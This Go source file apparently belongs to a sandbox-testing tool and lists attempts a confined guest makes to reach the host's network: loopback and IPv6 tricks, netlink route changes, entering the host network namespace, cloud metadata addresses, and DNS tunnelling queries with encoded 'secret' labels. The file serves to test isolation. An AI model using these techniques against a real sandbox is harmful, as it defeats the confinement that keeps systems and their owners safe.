package attack

import (
	"encoding/binary"
	"errors"
	"fmt"
	"net/netip"
	"os"
	"strings"
	"time"

	"golang.org/x/sys/unix"

	"github.com/riverlytech/art/internal/control"
	"github.com/riverlytech/art/internal/netrule"
)

// network are ways to the host's network: those that its own programs have, and those around what a guest has that reaches names
// alone.
func network() []Attempt {
	return area("the network", []Attempt{
		{Name: "connect to another address of localhost", Option: Network, try: func(t *Target) error {
			return connectTo(unix.AF_INET, &unix.SockaddrInet4{Addr: otherLocalhost, Port: t.port})
		}},
		{Name: "connect to localhost of IPv6", Needs: Host, Option: Network, try: func(t *Target) error {
			return connectTo(unix.AF_INET6, &unix.SockaddrInet6{Addr: [16]byte{15: 1}, Port: t.port})
		}},
		{Name: "connect to no address of IPv6", Needs: Host, Option: Network, try: func(t *Target) error {
			return connectTo(unix.AF_INET6, &unix.SockaddrInet6{Port: t.port})
		}},
		{Name: "connect to an address of the host", Needs: Host, Option: Network, try: func(t *Target) error {
			return connectTo(unix.AF_INET, &unix.SockaddrInet4{Addr: t.own, Port: t.port})
		}},
		{Name: "connect to an address of the host as IPv6", Needs: Host, Option: Network, try: func(t *Target) error {
			return connectTo(unix.AF_INET6, &unix.SockaddrInet6{Addr: mapped(t.own), Port: t.port})
		}},
		{Name: "connect to localhost without waiting", Option: Network, try: func(t *Target) error {
			return patiently(localhost(t.port))
		}},
		{Name: "connect to localhost with the first data", Option: Network, try: func(t *Target) error {
			return withSocket(unix.AF_INET, unix.SOCK_STREAM, func(fd int) error {
				err := unix.Sendto(fd, []byte("x"), unix.MSG_FASTOPEN|unix.MSG_NOSIGNAL, localhost(t.port))
				if errors.Is(err, unix.EOPNOTSUPP) { // turned off
					err = unix.Connect(fd, localhost(t.port))
				}
				return err
			})
		}},
		{Name: "connect to localhost from another address of it", Option: Network, try: func(t *Target) error {
			return withSocket(unix.AF_INET, unix.SOCK_STREAM, func(fd int) error {
				if err := unix.Bind(fd, &unix.SockaddrInet4{Addr: otherLocalhost}); err != nil {
					return err
				}
				return unix.Connect(fd, localhost(t.port))
			})
		}},
		{Name: "connect to localhost over its interface", Needs: Host, Option: Network, try: func(t *Target) error {
			return withSocket(unix.AF_INET, unix.SOCK_STREAM, func(fd int) error {
				if err := unix.BindToDevice(fd, "lo"); err != nil {
					return err
				}
				return unix.Connect(fd, localhost(t.port))
			})
		}},
		{Name: "connect to localhost past routes", Option: Network, try: func(t *Target) error {
			return withSocket(unix.AF_INET, unix.SOCK_STREAM, func(fd int) error {
				if err := unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_DONTROUTE, 1); err != nil {
					return err
				}
				return unix.Connect(fd, localhost(t.port))
			})
		}},
		{Name: "send to localhost", Option: Network, try: func(t *Target) error {
			return sendTo(unix.AF_INET, localhost(t.port))
		}},
		{Name: "send to localhost as IPv6", Needs: Host, Option: Network, try: func(t *Target) error {
			return sendTo(unix.AF_INET6, &unix.SockaddrInet6{Addr: mapped([4]byte{127, 0, 0, 1}), Port: t.port})
		}},
		{Name: "send to no address", Option: Network, try: func(t *Target) error {
			return sendTo(unix.AF_INET, &unix.SockaddrInet4{Port: t.port})
		}},
		{Name: "send to an address of the host", Needs: Host, Option: Network, try: func(t *Target) error {
			return sendTo(unix.AF_INET, &unix.SockaddrInet4{Addr: t.own, Port: t.port})
		}},
		{Name: "see a port of the host's in /proc", Option: Network, try: func(t *Target) error {
			text, err := os.ReadFile("/proc/net/tcp")
			if err != nil {
				return err
			}
			return found(strings.Contains(string(text), fmt.Sprintf("0100007F:%04X 00000000:0000 0A", t.port)))
		}},
		{Name: "enter the host's network", Needs: Root, try: func(t *Target) error {
			fd, err := unix.Open(t.proc("ns/net"), unix.O_RDONLY|unix.O_CLOEXEC, 0)
			if err != nil {
				return err
			}
			defer unix.Close(fd)
			return unix.Setns(fd, unix.CLONE_NEWNET)
		}},
		// The kernel looks at the right before it looks at the rest, which is none (rtnetlink_rcv_msg in net/core/rtnetlink.c).
		{Name: "add a route", Needs: Root, try: route(unix.RTM_NEWROUTE)},
		{Name: "remove a route", Needs: Root, try: route(unix.RTM_DELROUTE)},
		{Name: "add an address", Needs: Root, try: route(unix.RTM_NEWADDR)},
		{Name: "change an interface", Needs: Root, try: route(unix.RTM_SETLINK)},
		{Name: "make an interface", Needs: Root, try: route(unix.RTM_NEWLINK)},
		{Name: "add a rule for routes", Needs: Root, try: route(unix.RTM_NEWRULE)},
		{Name: "add a neighbour", Needs: Root, try: route(unix.RTM_NEWNEIGH)},
		{Name: "open what makes interfaces", Needs: Host, try: func(*Target) error { return openWith("/dev/net/tun", unix.O_RDWR) }},
		{Name: "mark packets for other routes", Needs: Root, try: func(*Target) error {
			return withSocket(unix.AF_INET, unix.SOCK_DGRAM, func(fd int) error { return unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_MARK, 1) })
		}},
		{Name: "speak for other addresses", Needs: Root, try: func(*Target) error {
			return withSocket(unix.AF_INET, unix.SOCK_STREAM, func(fd int) error { return unix.SetsockoptInt(fd, unix.SOL_IP, unix.IP_TRANSPARENT, 1) })
		}},
		{Name: "take packets as they come", Needs: Root, try: socket(unix.AF_PACKET, unix.SOCK_DGRAM, 0)},
		// Of a guest that reaches names alone. Nobody else is asked: so a name that may be reached and leads to another address than it
		// should, or a server by the name of another, are no attempts of these. They take a resolver and servers of the test's own, which
		// the story network-names has; and secrets take a server to be sent to (package netsecret). Tests take the guards of both out
		// (guards_test.go in internal/e2e).
		{Name: "find localhost by the resolver", Needs: Host, try: byName("localhost")},
		{Name: "find the host by the resolver", Needs: Host, try: byName(netrule.Host)},
		{Name: "find what clouds tell by the resolver", Needs: Host, try: byName("metadata.google.internal")},
		{Name: "ask for text of another name", Needs: Host, try: asking(unix.SOCK_DGRAM, 0, "c2VjcmV0.tunnel.invalid", 16, 1)},
		{Name: "ask for anything of another name", Needs: Host, try: asking(unix.SOCK_DGRAM, 0, strings.Repeat("c2VjcmV0.", 20)+"tunnel.invalid", 255, 1)},
		{Name: "ask for the address of another name over TCP", Needs: Host, try: asking(unix.SOCK_STREAM, 0, "c2VjcmV0.tunnel.invalid", 1, 1)},
		{Name: "ask for a whole zone", Needs: Host, try: asking(unix.SOCK_STREAM, 0, "invalid", 252, 1)},
		{Name: "change a zone", Needs: Host, try: asking(unix.SOCK_DGRAM, 5, "tunnel.invalid", 6, 1)},
		{Name: "ask what the resolver is", Needs: Host, try: asking(unix.SOCK_DGRAM, 0, "version.bind", 16, 3)},
		{Name: "ask for the name of an address", Needs: Host, try: asking(unix.SOCK_DGRAM, 0, "1.0.0.127.in-addr.arpa", 12, 1)},
		{Name: "connect to the gateway", Needs: Host, try: inNames(func(t *Target) error { return to(control.Gateway4.As4(), t.port) })},
		{Name: "connect to the gateway of IPv6", Needs: Host, try: inNames(func(t *Target) error {
			return patiently(&unix.SockaddrInet6{Addr: control.Gateway6.As16(), Port: t.port})
		})},
		{Name: "connect to localhost by what stands for it in IPv6", Needs: Host, try: inNames(func(t *Target) error {
			// Put after ::, as NAT64 does (RFC 6052), and as 6to4 does (RFC 3056).
			return any([]string{"::7f00:1", "64:ff9b::7f00:1", "2002:7f00:1::"}, func(a string) error {
				return patiently(&unix.SockaddrInet6{Addr: netip.MustParseAddr(a).As16(), Port: t.port})
			})
		})},
		{Name: "connect to an address of no name", Needs: Host, try: inNames(func(t *Target) error { return to([4]byte{198, 19, 200, 9}, t.port) })},
		{Name: "connect to what clouds tell their machines", Needs: Host, try: inNames(func(*Target) error {
			return any([]string{"\xa9\xfe\xa9\xfe", "\x64\x64\x64\xc8", "\xa8\x3f\x81\x10"}, func(a string) error { return to([4]byte([]byte(a)), 80) })
		})},
		{Name: "connect to another resolver", Needs: Host, try: inNames(func(*Target) error { return to(nobodys, 53) })},
		{Name: "connect to another resolver by TLS", Needs: Host, try: inNames(func(*Target) error { return to(nobodys, 853) })},
		{Name: "connect to another resolver by HTTPS", Needs: Host, try: inNames(func(*Target) error { return to(nobodys, 443) })},
		{Name: "connect to another resolver as IPv6", Needs: Host, try: inNames(func(*Target) error {
			return patiently(&unix.SockaddrInet6{Addr: mapped(nobodys), Port: 443})
		})},
		{Name: "send to another resolver", Needs: Host, try: inNames(func(*Target) error {
			return sendTo(unix.AF_INET, &unix.SockaddrInet4{Addr: nobodys, Port: 53})
		})},
		{Name: "send by QUIC", Needs: Host, try: inNames(func(*Target) error {
			return sendTo(unix.AF_INET, &unix.SockaddrInet4{Addr: nobodys, Port: 443})
		})},
		{Name: "have an echo request answered", Needs: Host, try: inNames(ping)},
	})
}

var (
	// otherLocalhost is one of the many addresses of loopback.
	otherLocalhost = [4]byte{127, 1, 2, 3}
	// nobodys is an address that nobody has (RFC 5737).
	nobodys = [4]byte{192, 0, 2, 53}
)

func mapped(a [4]byte) (m [16]byte) {
	m[10], m[11] = 255, 255
	copy(m[12:], a[:])
	return m
}

func withSocket(family, kind int, do func(fd int) error) error {
	fd, err := unix.Socket(family, kind|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	return do(fd)
}

// shortly is how long an answer may take that comes at once.
const shortly = 2 * time.Second

func to(a [4]byte, port int) error { return patiently(&unix.SockaddrInet4{Addr: a, Port: port}) }

// patiently succeeds if a connection is made, shortly.
func patiently(address unix.Sockaddr) error {
	family := unix.AF_INET
	if _, ok := address.(*unix.SockaddrInet6); ok {
		family = unix.AF_INET6
	}
	return withSocket(family, unix.SOCK_STREAM|unix.SOCK_NONBLOCK, func(fd int) error {
		if err := unix.Connect(fd, address); !errors.Is(err, unix.EINPROGRESS) {
			return err
		}
		if err := ready(fd, unix.POLLOUT, shortly); err != nil {
			return err
		}
		if code, err := unix.GetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_ERROR); err != nil || code != 0 {
			return errors.Join(err, unix.Errno(code))
		}
		return nil
	})
}

func ready(fd int, events int16, patience time.Duration) error {
	fds := []unix.PollFd{{Fd: int32(fd), Events: events}}
	n, err := unix.Poll(fds, int(patience.Milliseconds()))
	if err == nil && n == 0 {
		err = unix.ETIMEDOUT
	}
	return err
}

// sendTo succeeds if nobody refuses what is sent.
func sendTo(family int, address unix.Sockaddr) error {
	return withSocket(family, unix.SOCK_DGRAM, func(fd int) error {
		if err := unix.Connect(fd, address); err != nil {
			return err
		}
		if _, err := unix.Write(fd, []byte("x")); err != nil {
			return err
		}
		if err := ready(fd, unix.POLLIN, shortly/20); errors.Is(err, unix.ETIMEDOUT) {
			return nil
		}
		_, err := unix.Read(fd, make([]byte, 1))
		return err
	})
}

// route asks for a change of the network's that says nothing.
func route(kind uint16) func(*Target) error {
	return func(*Target) error {
		fd, err := unix.Socket(unix.AF_NETLINK, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.NETLINK_ROUTE)
		if err != nil {
			return err
		}
		defer unix.Close(fd)
		request := binary.NativeEndian.AppendUint32(nil, unix.SizeofNlMsghdr+unix.SizeofIfInfomsg)
		request = binary.NativeEndian.AppendUint16(request, kind)
		request = binary.NativeEndian.AppendUint16(request, unix.NLM_F_REQUEST|unix.NLM_F_ACK)
		request = append(request, make([]byte, 8+unix.SizeofIfInfomsg)...)
		request[unix.SizeofNlMsghdr] = 0xff // no family has that number
		if err := unix.Sendto(fd, request, 0, &unix.SockaddrNetlink{Family: unix.AF_NETLINK}); err != nil {
			return err
		}
		answer := make([]byte, 4096)
		n, _, err := unix.Recvfrom(fd, answer, 0)
		if err != nil || n < unix.SizeofNlMsghdr+4 {
			return errors.Join(errNothing, err)
		}
		if errno := unix.Errno(-int32(binary.NativeEndian.Uint32(answer[unix.SizeofNlMsghdr:]))); errno == unix.EPERM || errno == unix.EACCES {
			return errno
		}
		return nil
	}
}

// inNames makes an attempt where the guest reaches names alone: nobodys it would be one on others.
func inNames(try func(*Target) error) func(*Target) error {
	return func(t *Target) error {
		text, err := os.ReadFile("/etc/resolv.conf")
		if err != nil {
			return err
		}
		if !strings.Contains(string(text), "nameserver "+control.Gateway4.String()) {
			return errNothing
		}
		return try(t)
	}
}

// byName connects to the target by a name.
func byName(name string) func(*Target) error {
	return inNames(func(t *Target) error {
		answer, err := ask(unix.SOCK_DGRAM, 0, name, 1, 1)
		if err != nil {
			return err
		}
		return to([4]byte(answer[len(answer)-4:]), t.port)
	})
}

// asking succeeds if the resolver has something to say.
func asking(kind int, opcode byte, name string, what, class uint16) func(*Target) error {
	return inNames(func(*Target) error {
		_, err := ask(kind, opcode, name, what, class)
		return err
	})
}

// ask asks the guest's resolver, and returns its answer if that is one.
func ask(kind int, opcode byte, name string, what, class uint16) (answer []byte, err error) {
	query := []byte{0, 7, 1 | opcode<<3, 0, 0, 1, 0, 0, 0, 0, 0, 0}
	for label := range strings.SplitSeq(name, ".") {
		query = append(append(query, byte(len(label))), label...)
	}
	query = binary.BigEndian.AppendUint16(binary.BigEndian.AppendUint16(append(query, 0), what), class)
	if kind == unix.SOCK_STREAM {
		query = append(binary.BigEndian.AppendUint16(nil, uint16(len(query))), query...)
	}
	err = withSocket(unix.AF_INET, kind, func(fd int) error {
		if err := unix.Connect(fd, &unix.SockaddrInet4{Addr: control.Gateway4.As4(), Port: 53}); err != nil {
			return err
		}
		if _, err := unix.Write(fd, query); err != nil {
			return err
		}
		if err := ready(fd, unix.POLLIN, shortly); err != nil {
			return err
		}
		answer = make([]byte, 4096)
		n, err := unix.Read(fd, answer)
		answer = answer[:max(n, 0)]
		return err
	})
	if kind == unix.SOCK_STREAM && len(answer) > 2 {
		answer = answer[2:]
	}
	switch {
	case err != nil:
		return nil, err
	case len(answer) < 12:
		return nil, errNothing
	case answer[3]&15 != 0:
		return nil, fmt.Errorf("the resolver refuses with code %d", answer[3]&15)
	case binary.BigEndian.Uint16(answer[6:]) == 0 && opcode == 0:
		return nil, errNothing
	}
	return answer, nil
}

// ping succeeds if an echo request is answered.
func ping(*Target) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, unix.IPPROTO_ICMP)
	if err != nil {
		fd, err = unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_ICMP)
	}
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	request := []byte{8, 0, 0xf7, 0xfe, 0, 0, 0, 1}
	if err := unix.Sendto(fd, request, 0, &unix.SockaddrInet4{Addr: control.Gateway4.As4()}); err != nil {
		return err
	}
	return ready(fd, unix.POLLIN, shortly)
}

// openNetwork makes what there is to reach, at the port that there is on localhost. What this host does not have is left out.
func (v *Victim) openNetwork() {
	v.own = ownAddress()
	open := func(family, kind int, address unix.Sockaddr) {
		fd, err := unix.Socket(family, kind|unix.SOCK_CLOEXEC, 0)
		if err != nil {
			return
		}
		if err = unix.Bind(fd, address); err == nil && kind == unix.SOCK_STREAM {
			err = unix.Listen(fd, unix.SOMAXCONN) // nobody accepts
		}
		if err != nil {
			unix.Close(fd)
			return
		}
		v.closers = append(v.closers, func() error { return unix.Close(fd) })
	}
	for _, kind := range []int{unix.SOCK_STREAM, unix.SOCK_DGRAM} {
		open(unix.AF_INET, kind, localhost(v.port))
		open(unix.AF_INET, kind, &unix.SockaddrInet4{Addr: otherLocalhost, Port: v.port})
		open(unix.AF_INET6, kind, &unix.SockaddrInet6{Addr: [16]byte{15: 1}, Port: v.port})
		if v.own != [4]byte{} {
			open(unix.AF_INET, kind, &unix.SockaddrInet4{Addr: v.own, Port: v.port})
		}
	}
}

// ownAddress returns the address that the host has in its network, if any. Nothing is sent for that.
func ownAddress() (own [4]byte) {
	_ = withSocket(unix.AF_INET, unix.SOCK_DGRAM, func(fd int) error {
		if err := unix.Connect(fd, &unix.SockaddrInet4{Addr: nobodys, Port: 9}); err != nil {
			return err
		}
		name, err := unix.Getsockname(fd)
		if a, ok := name.(*unix.SockaddrInet4); ok && a.Addr[0] != 127 {
			own = a.Addr
		}
		return err
	})
	return own
}
